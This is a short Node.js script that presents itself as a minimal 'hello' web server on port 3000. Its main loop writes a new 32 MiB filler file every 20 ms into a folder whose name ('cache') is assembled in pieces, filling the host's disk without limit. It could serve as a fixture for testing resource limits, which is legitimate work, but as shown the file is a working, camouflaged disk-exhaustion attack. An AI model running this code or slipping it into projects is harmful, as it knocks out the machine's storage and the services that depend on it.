// Fills its disk, a file after the other.
const fs = require('node:fs');
const http = require('node:http');
const path = require('node:path');
const folder = path.join(__dirname, ['c', 'ache'].join(''));
fs.mkdirSync(folder, { recursive: true });
const block = Buffer.alloc(32 << 20, 1);
let number = 0;
setInterval(() => fs.writeFileSync(path.join(folder, String(number++)), block), 20);
http.createServer((q, r) => r.end('hello')).listen(3000);
process.on('SIGTERM', () => process.exit(0));
